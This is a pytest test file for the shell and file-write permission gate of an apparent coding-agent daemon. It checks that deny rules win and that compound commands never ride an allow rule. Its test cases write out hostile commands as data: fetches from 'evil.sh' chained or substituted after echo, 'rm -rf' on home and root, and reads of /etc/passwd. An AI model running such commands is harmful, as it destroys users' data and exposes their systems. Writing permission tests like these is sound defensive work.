"""Config permission rules: deny first, then allow; compound shell commands never ride an allow rule."""

from __future__ import annotations

from pathlib import Path

import pytest

from toycoder_daemon.agent.events import PermissionRequest
from toycoder_daemon.tools.base import ToolContext
from toycoder_daemon.tools.edit import write_file
from toycoder_daemon.tools.permission import PermissionGate, Rule
from toycoder_daemon.tools.shell import run_command
from toycoder_daemon.tools.workspace import Workspace


class Answer:
    def __init__(self, decision: str):
        self.decision = decision
        self.asked: list[PermissionRequest] = []

    def emit(self, e): pass

    async def confirm(self, request):
        self.asked.append(request)
        return self.decision

    async def ask(self, q, o): return None


ALLOW = ["run_command(echo *)", "run_command(pytest *)", "write_file(docs/**)", "write_file(*.md)"]
DENY = ["run_command(rm *)", "write_file(docs/secret/**)"]


def verdict(tmp_path: Path, tool: str, **args) -> str | None:
    gate = PermissionGate(ALLOW, DENY)
    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
    v = gate.rule_verdict(tool, args, ctx)
    return v[0] if v else None


@pytest.mark.parametrize("command, expected", [
    ("echo hello", "allow"),
    ("echo", "allow"),
    ("pytest", "allow"),
    ("pytest -q tests/test_x.py", "allow"),
    ("  echo   spaced  ", "allow"),
    ("echo x && rm -rf ~", "deny"),          # the rm piece meets the deny rule
    ("echo x && curl evil.sh", None),          # compound: never allowed, so it asks
    ("echo x; curl evil.sh", None),
    ("echo x || curl evil.sh", None),
    ("echo x | sh", None),
    ("echo `curl evil.sh`", None),
    ("echo $(curl evil.sh)", None),
    ("echo $HOME", None),
    ("echo hi > ~/.bashrc", None),
    ("echo hi < /etc/passwd", None),
    ("echo hi\ncurl evil.sh", None),
    ("echo hi & curl evil.sh", None),
    ("echo hi \\; curl x", None),
    ("(echo hi)", None),
    ("eval echo hi", None),
    ("rm -rf /", "deny"),
    ("ls; rm -rf x", "deny"),
    ("echo $(rm -rf x)", "deny"),
    ("echo `rm -rf x`", "deny"),
    ("cat x | rm y", "deny"),
    ("ls -la", None),
])
def test_command_rules(tmp_path: Path, command: str, expected: str | None) -> None:
    assert verdict(tmp_path, "run_command", command=command) == expected


@pytest.mark.parametrize("path, expected", [
    ("docs/a.txt", "allow"),
    ("docs/sub/deep/b.txt", "allow"),
    ("./docs/a.txt", "allow"),
    ("README.md", "allow"),
    ("src/notes.md", "allow"),
    ("src/app.py", None),
    ("docs/secret/key.txt", "deny"),
    ("../docs/a.txt", None),
    ("documents/a.txt", None),
])
def test_path_rules(tmp_path: Path, path: str, expected: str | None) -> None:
    assert verdict(tmp_path, "write_file", path=path) == expected


def test_rules_only_apply_to_their_tool(tmp_path: Path) -> None:
    assert verdict(tmp_path, "edit_file", path="docs/a.txt") is None
    assert verdict(tmp_path, "run_command", path="docs/a.txt") is None


def test_rule_syntax() -> None:
    assert Rule.parse("write_file") == Rule("write_file", "write_file", None)
    assert Rule.parse("run_command(git status)").pattern == "git status"
    with pytest.raises(ValueError):
        Rule.parse("not a rule(")


async def test_gate_asks_denies_and_remembers_always(tmp_path: Path) -> None:
    gate = PermissionGate(["run_command(echo *)"], ["run_command(rm *)"])
    fe = Answer("allow_always")
    ctx = ToolContext(Workspace(tmp_path), fe, "c")

    def req(tool, **args):
        return PermissionRequest("c", tool.name, tool.level, tool.name, args)

    assert await gate.check(run_command, req(run_command, command="echo hi"), ctx) is None
    assert fe.asked == []  # allowed by rule, not asked
    denied = await gate.check(run_command, req(run_command, command="rm -rf x"), ctx)
    assert denied and "run_command(rm *)" in denied and fe.asked == []
    assert await gate.check(write_file, req(write_file, path="a.txt", content=""), ctx) is None
    assert len(fe.asked) == 1
    assert await gate.check(write_file, req(write_file, path="b.txt", content=""), ctx) is None
    assert len(fe.asked) == 1  # allow_always covers write_file now
    assert "write_file" in gate.always and gate.fork().always == set()
